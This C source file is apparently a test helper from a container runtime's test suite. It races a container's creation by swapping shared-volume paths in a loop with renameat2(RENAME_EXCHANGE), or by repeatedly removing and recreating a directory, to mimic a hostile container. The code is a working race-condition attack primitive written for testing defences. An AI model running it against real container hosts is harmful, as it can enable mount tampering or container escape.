/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attack_swapper [-s SECONDS] A B...: exchanges each pair of paths repeatedly with
 * renameat2(RENAME_EXCHANGE), until it is killed or the time has passed. A hostile container can do
 * this to a volume that it shares with a container that is being created. B may be "-": then A is
 * removed and created again as a directory.
 */
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void swap(const char *a, const char *b)
{
	if (strcmp(b, "-") != 0) {
		renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
		return;
	}
	rmdir(a);
	mkdir(a, 0755);
}

int main(int argc, char **argv)
{
	time_t end = 0;
	int first = 1;

	if (argc > 2 && strcmp(argv[1], "-s") == 0) {
		end = time(NULL) + atoi(argv[2]);
		first = 3;
	}
	if (argc - first < 2 || (argc - first) % 2 != 0)
		errx(2, "usage: attack_swapper [-s SECONDS] A B...");
	if (strcmp(argv[first + 1], "-") != 0 &&
		renameat2(AT_FDCWD, argv[first], AT_FDCWD, argv[first + 1], RENAME_EXCHANGE) < 0)
		err(1, "exchange %s and %s", argv[first], argv[first + 1]);
	printf("swapping\n");
	fflush(stdout);
	while (end == 0 || time(NULL) < end)
		for (int i = first; i < argc; i += 2)
			swap(argv[i], argv[i + 1]);
	return 0;
}
